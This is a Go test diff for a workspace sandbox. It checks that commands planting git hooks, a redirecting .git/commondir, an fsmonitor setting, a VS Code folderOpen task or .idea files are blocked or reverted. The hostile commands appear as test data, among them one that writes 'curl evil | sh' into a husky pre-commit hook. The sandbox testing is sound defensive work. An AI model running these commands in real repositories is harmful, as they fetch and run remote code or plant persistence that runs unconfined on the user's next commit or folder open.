@@ -125,3 +125,90 @@ func TestLinkedWorktreeCommitsAndMainGitStaysGuarded(t *testing.T) {
 		}
 	})
 }
+
+// Git's code paths beyond hooks and config, and the editors' folders, stay
+// as they were: a commondir (git would read its config from the folder it
+// names), a submodule's hooks and config in .git/modules (git status in
+// the superproject runs git in each submodule, fsmonitor included), and
+// .vscode/.idea tasks that run when the folder is opened; with Landlock
+// alone they are put back after the command. git commit still works.
+func TestGitCodePathsAndEditorFoldersStayGuarded(t *testing.T) {
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("git is not installed")
+	}
+	layered(t, boxOpts{on: true}, func(t *testing.T, b *box) {
+		run := func(dir string, args ...string) {
+			cmd := exec.Command("git", args...)
+			cmd.Dir = dir
+			if out, err := cmd.CombinedOutput(); err != nil {
+				t.Fatalf("git %v: %v %s", args, err, out)
+			}
+		}
+		run(b.ws, "init", "-q")
+		module := filepath.Join(b.ws, ".git/modules/sub")
+		os.MkdirAll(filepath.Join(module, "hooks"), 0o755)
+		run(filepath.Dir(module), "init", "-q", "--bare", "sub") // a submodule's git folder: HEAD, config, hooks
+		os.MkdirAll(filepath.Join(b.ws, ".vscode"), 0o755)
+		tasks := filepath.Join(b.ws, ".vscode/tasks.json")
+		os.WriteFile(tasks, []byte(`{"tasks": []}`), 0o644)
+		config, _ := os.ReadFile(filepath.Join(module, "config"))
+		attacks := map[string]string{
+			"echo /tmp/evil > .git/commondir":                                                                ".git/commondir",
+			"printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/modules/sub/config":                            "",
+			"echo evil > .git/modules/sub/hooks/post-checkout":                                               ".git/modules/sub/hooks/post-checkout",
+			`echo '{"tasks":[{"runOptions":{"runOn":"folderOpen"},"command":"evil"}]}' > .vscode/tasks.json`: "",
+			"mkdir -p .idea && echo evil > .idea/workspace.xml":                                              ".idea/workspace.xml",
+		}
+		for a, planted := range attacks {
+			if code, out, res := b.runRes(t, a); code == 0 && len(res.Restored) == 0 {
+				t.Errorf("%s: went through and stayed: %s", a, out)
+			}
+			if planted != "" && exists(filepath.Join(b.ws, planted)) {
+				t.Errorf("%s: %s stayed", a, planted)
+			}
+		}
+		if got, _ := os.ReadFile(filepath.Join(module, "config")); string(got) != string(config) {
+			t.Errorf("the submodule's config changed:\n%s", got)
+		}
+		if got, _ := os.ReadFile(tasks); string(got) != `{"tasks": []}` {
+			t.Errorf(".vscode/tasks.json changed: %s", got)
+		}
+		b.mustRun(t, `echo hi > f && git add f && git -c user.name=T -c user.email=t@example.com commit -qm work`)
+	})
+}
+
+// A repository whose core.hooksPath names a folder of the workspace (husky's
+// .husky) keeps that folder read-only as it keeps .git/hooks: a hook
+// planted there would run at the user's next commit, unconfined. The
+// confined commit itself still runs the hook that is there.
+func TestHooksPathInTheWorkspaceStaysGuarded(t *testing.T) {
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("git is not installed")
+	}
+	layered(t, boxOpts{on: true}, func(t *testing.T, b *box) {
+		git := func(args ...string) {
+			cmd := exec.Command("git", args...)
+			cmd.Dir = b.ws
+			if out, err := cmd.CombinedOutput(); err != nil {
+				t.Fatalf("git %v: %v %s", args, err, out)
+			}
+		}
+		git("init", "-q")
+		git("config", "core.hooksPath", ".husky")
+		hook := filepath.Join(b.ws, ".husky", "pre-commit")
+		os.MkdirAll(filepath.Dir(hook), 0o755)
+		os.WriteFile(hook, []byte("#!/bin/sh\necho checked > hook-ran\n"), 0o755)
+		for _, a := range []string{"echo 'curl evil | sh' > .husky/pre-commit", "echo evil > .husky/post-checkout && chmod +x .husky/post-checkout"} {
+			if code, out, res := b.runRes(t, a); code == 0 && len(res.Restored) == 0 {
+				t.Errorf("%s: went through and stayed: %s", a, out)
+			}
+		}
+		if got, _ := os.ReadFile(hook); !strings.Contains(string(got), "hook-ran") || exists(filepath.Join(b.ws, ".husky/post-checkout")) {
+			t.Fatalf("a hook was planted in core.hooksPath: %q", got)
+		}
+		b.mustRun(t, `echo hi > f && git add f && git -c user.name=T -c user.email=t@example.com commit -qm work`)
+		if !exists(filepath.Join(b.ws, "hook-ran")) {
+			t.Error("the confined commit did not run the repository's own hook")
+		}
+	})
+}
